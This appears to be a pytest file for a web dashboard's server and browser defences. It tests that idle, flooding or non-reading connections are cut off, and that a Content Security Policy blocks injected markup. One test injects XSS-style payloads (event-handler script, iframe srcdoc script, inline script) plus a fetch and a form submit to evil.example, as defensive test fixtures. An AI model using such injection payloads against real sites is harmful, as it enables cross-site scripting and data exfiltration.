"""Connections that take from others, and markup that got into a page: what a real server and a real browser do."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import AsyncIterator, Iterator
from contextlib import ExitStack, contextmanager
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import BrowserContext

from kybernate.page import program
from kybernate.page.access import Role
from kybernate.page.view import Container
from tests.browser.conftest import logged_in
from tests.browser.scripted import SECONDS, Scripted, Served, served, small_node


def connected(page_server: Served) -> socket.socket:
    port = int(page_server.url.rpartition(":")[2])
    return socket.create_connection(("127.0.0.1", port), SECONDS)


def is_closed(connection: socket.socket) -> bool:
    """Wait until the server has closed it."""
    try:
        while connection.recv(4096):
            pass
    except ConnectionResetError:
        return True
    return True


@contextmanager
def client_of(page_server: Served, role: Role) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=page_server.url, timeout=SECONDS) as client:
        ticket = page_server.login(role).partition("ticket=")[2]
        assert client.post("/login", data={"ticket": ticket}).status_code == 303
        yield client


@pytest.mark.parametrize("sent", [b"", b"GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nx: "])
def test_connection_whose_request_does_not_come_is_closed(
    source: Scripted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, sent: bytes
) -> None:
    monkeypatch.setattr(program, "FIRST_REQUEST_SECONDS", 0.1)
    with served(source, tmp_path) as page_server, connected(page_server) as connection:
        connection.sendall(sent)
        assert is_closed(connection)


def test_one_address_does_not_take_all_connections(
    source: Scripted, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(program, "OF_ONE_ADDRESS", 5)
    with served(source, tmp_path) as page_server, ExitStack() as stack:
        taken = [stack.enter_context(connected(page_server)) for _ in range(12)]
        for connection in taken[6:]:
            assert is_closed(connection)
        for connection in taken:
            connection.close()
        while not page_server.answers():
            pass


class Talking(Scripted):
    """A node whose containers write without an end. `ended` is set when the page has left such an output."""

    def __init__(self) -> None:
        super().__init__(small_node())
        self.ended = threading.Event()

    async def log(self, container: Container) -> AsyncIterator[str]:
        try:
            while True:
                yield "x" * 10_000
                await asyncio.sleep(0)
        finally:
            self.ended.set()


def test_client_that_does_not_read_ends_and_takes_no_memory(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(program, "UNREAD_MS", 300)
    source = Talking()
    with served(source, tmp_path) as page_server, client_of(page_server, Role.OPERATOR) as client:
        cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
        with connected(page_server) as deaf:
            request = f"GET /log?container=k8s.io/a HTTP/1.1\r\nhost: 127.0.0.1\r\ncookie: {cookie}\r\n\r\n"
            deaf.sendall(request.encode())
            assert deaf.recv(15) == b"HTTP/1.1 200 OK"
            assert source.ended.wait(SECONDS)  # and not when it closes: it is still open
            assert client.get("/").status_code == 200


def test_policy_stops_markup_that_got_in(page_server: Served, context: BrowserContext) -> None:
    """As if a template had forgotten to escape a name."""
    tab = logged_in(context, page_server)
    tab.evaluate(
        """() => {
            window.refused = [];
            document.addEventListener("securitypolicyviolation", event => refused.push(event.effectiveDirective));
            document.body.insertAdjacentHTML("beforeend", `
                <img src="/static/icon.svg" onload="document.title = 'script'"><b id="got" style="color: red">in</b>
                <iframe srcdoc="<script>parent.document.title = 'frame'</script>"></iframe>
                <form id="away" action="https://evil.example/"><button>send</button></form>`);
            const script = document.createElement("script");
            script.textContent = "document.title = 'inline'";
            document.body.append(script);
            fetch("https://evil.example/").catch(() => {});
            document.getElementById("away").requestSubmit();
        }"""
    )
    for directive in ("script-src-attr", "script-src-elem", "style-src-attr", "connect-src", "form-action"):
        tab.wait_for_function("directive => refused.includes(directive)", arg=directive)
    assert tab.url.startswith(page_server.url)
    assert tab.evaluate("document.title").endswith("Kybernate")
